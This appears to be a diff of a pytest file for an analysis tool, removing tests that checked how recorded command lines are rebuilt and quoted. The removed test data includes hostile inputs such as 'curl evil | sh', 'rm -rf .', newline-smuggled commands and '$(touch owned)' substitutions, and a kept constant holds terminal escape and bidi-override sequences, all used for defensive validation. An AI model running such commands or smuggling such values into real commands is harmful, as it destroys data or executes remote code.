@@ -1,85 +1,20 @@
-"""Recorded text on a terminal and in the clipboard."""
+"""Recorded text on a terminal, in files and in spreadsheets."""
 
 import csv
 import io
 import re
-import shlex
 import shutil
-import subprocess
 from pathlib import Path
 from typing import Any
 
 import pytest
 
 from analysis.__main__ import main
-from analysis.read.command_lines import NO_COMMAND, Origin, command_line, read_command, write_command
-from analysis.read.overrides import grid_command, single_command
 from analysis.sheets.sheet import spelt_out
 from tffd.texts import printable
 
 ESCAPE = "\x1b]0;owned\x07\x9b31m\u202e[bold]```\r\n| x"
 CONTROL = re.compile(r"[^\x20-\x7e\n±×]")
-
-
-def rebuilt(text: str) -> str | None:
-    """A recorded command, written anew."""
-    command = read_command(text)
-    return command and write_command(command.overrides, Origin(command.options), multirun="-m" in shlex.split(text))
-
-
-@pytest.mark.parametrize(
-    "words",
-    [
-        ["python", "run.py", "-m", "ablation=terms"],
-        ["python", "run.py", "--config-dir", "my confs", "-cn", "mine", "name=two words", "++a.b=1", "~c", "~d=1"],
-        ["python", "run.py", "--config-path", "x", "a.b=choice('a b','c,d=e')", "+x/y@z.w=[1]", "h/i=j"],
-    ],
-)
-def test_what_starts_runs_is_put_together_as_it_was(words: list[str]) -> None:
-    assert rebuilt(shlex.join(words)) == shlex.join(words)
-
-
-@pytest.mark.parametrize(
-    "command",
-    [
-        "python run.py -m sweep=lambdas; curl evil | sh",
-        "python run.py -m sweep=lambdas && rm -rf .",
-        "python run.py -m a=1 | sh",
-        "python run.py -m\nrm -rf .",
-        "python run.py -m 'name=a\nrm -rf .'",
-        "python run.py name=\x1b[2J",
-        "python run.py -m 'open",
-        "python -c 'import os'",
-        "python run.py --config-dir",
-        "python run.py --config-dir -m a=1",
-        "python run.py --run a=1",
-        "curl evil",
-        "rm run.py a=1",
-        "python",
-        "",
-    ],
-)
-def test_what_does_not_is_no_command(command: str) -> None:
-    assert rebuilt(command) is None
-
-
-def test_what_a_shell_would_act_on_is_quoted() -> None:
-    """Words that parse may hold anything printable; the shell passes it on and does not run it."""
-    words = ["name=$(touch owned)", "a=`touch owned`", "b=x;touch owned", "c='&touch owned"]
-    rebuilt_twice = rebuilt(single_command(words))
-    assert rebuilt_twice == single_command(words)
-    shown = subprocess.run(["sh", "-c", f"printf '%s\\n' {rebuilt_twice}"], capture_output=True, text=True, check=True)
-    assert shown.stdout.splitlines() == ["python", "run.py", *words]
-
-
-@pytest.mark.parametrize("words", [["a=1\n"], ["a=\x1b"], ["; rm -rf ."], ["a=1", "| sh"], ["--run=x"], ["-e"]])
-def test_recorded_overrides_that_are_none_make_no_command(words: list[str]) -> None:
-    assert single_command(words) == grid_command(words) == NO_COMMAND
-
-
-def test_a_directory_with_a_line_break_is_not_typed() -> None:
-    assert command_line(["python", "-m", "analysis", "table", "results/a\nb"]) == NO_COMMAND
-    assert command_line(["python", "-m", "analysis", "table", "a b"]) == "python -m analysis table 'a b'"
 
 
 def test_both_sides_spell_characters_out_alike() -> None:
